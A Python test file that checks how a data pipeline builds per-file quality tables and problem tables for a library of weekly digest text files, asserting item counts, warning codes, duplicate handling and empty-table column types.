def test_quality_table_of_the_seed_library(lib):
    items, report = lib.load()
    table = quality_table(items, report).set_index("file")
    assert list(table.index) == [
        "002_0b14f9dcf9426668.txt",
        "004_b8308b7cb78d46d0.txt",
        "001_6a1a74cf8d1e2b76.txt",
        "003_92956dbfc23f0d06.txt",
        "000_93a2f3d2e69a4580.txt",
    ]
    row = table.loc["000_93a2f3d2e69a4580.txt"]
    assert (row["blocks"], row["summary_entries"], row["items"]) == (7, 4, 7)
    assert (row["year_conflicts"], row["not_in_summary"], row["week"]) == (1, 4, "2025-W12")
    assert table.loc["003_92956dbfc23f0d06.txt", ["blocks", "items", "repeated_merged"]].tolist() == [24, 22, 2]
    assert table.loc["001_6a1a74cf8d1e2b76.txt", "repeated_merged"] == 1
    assert table["items"].sum() == len(items) == 70
    assert table["loaded"].all() and (table["errors"] == "").all()


def test_problem_table_links_each_item_problem_to_its_item(lib):
    items, report = lib.load()
    problems = problem_table(items, report)
    assert len(problems) == sum(len(f.problems) for f in report.files) == 8
    for p in problems[problems["item_no"].notna()].itertuples():
        row = items[(items["digest_id"] == p.digest_id) & (items["item_no"] == p.item_no)]
        assert row["headline"].tolist() == [p.headline] and row["item_key"].tolist() == [p.item_key]
    assert set(problems["column"]) == {"year_conflicts", "not_in_summary", "repeated_merged"}


def test_quality_counts_each_kind_of_problem_in_its_column():
    items, _ = pipeline.load([SEEDS[2]])
    items.loc[items["item_no"] == 3, "doc_type"] = "Khác"
    file = FileReport(path="/x/002.txt", digest_id=items["digest_id"].iloc[0], blocks=8, items=8, summary_entries=8)
    for code in (
        "unknown_leader",
        "unknown_unit",
        "vp_letter_without_leader",
        "unknown_sector",
        "summary_without_item",
        "no_document_date",
        "no_document",
    ):
        file.warn(code, code, 3 if code != "summary_without_item" else None)
    failed = FileReport(path="/x/bad.txt", digest_id="bad")
    failed.warn("no_title", "no title")
    failed.error("not_a_digest", "this text is not a weekly digest")
    duplicate = FileReport(path="/x/copy.txt", digest_id=file.digest_id, blocks=8)
    duplicate.warn("unknown_sector", "counted once, in the copy that loaded", 1)
    duplicate.error("duplicate", "same digest as /x/002.txt: skipped")
    report = LoadReport(files=[file, failed, duplicate])
    table = quality_table(items, report).set_index("file")
    ok = table.loc["002.txt"]
    assert (ok["without_doc_number"], ok["unrecognised_issuers"], ok["unknown_sectors"]) == (1, 3, 1)
    assert (ok["summary_without_item"], ok["other_warnings"]) == (1, 1)  # no_document_date is "other"
    bad = table.loc["bad.txt"]
    assert (bool(bad["loaded"]), bad["errors"], bad["other_warnings"], bad["items"]) == (
        False,
        "this text is not a weekly digest",
        1,
        0,
    )
    assert table.loc["copy.txt", "unknown_sectors"] == 0
    problems = problem_table(items, report)
    assert problems[problems["file"] == "copy.txt"]["code"].tolist() == ["duplicate"]
    assert problems[problems["code"] == "not_a_digest"]["column"].tolist() == ["errors"]
    headline = items.loc[items["item_no"] == 3, "headline"].iloc[0]
    assert set(problems[problems["code"] == "unknown_leader"]["headline"]) == {headline}


def test_quality_tables_of_nothing_are_empty_but_typed():
    items, report = pipeline.load([])
    table, problems = quality_table(items, report), problem_table(items, report)
    assert table.empty and problems.empty
    assert str(table["week_start"].dtype) == "datetime64[ns]" and str(problems["item_no"].dtype) == "Int64"
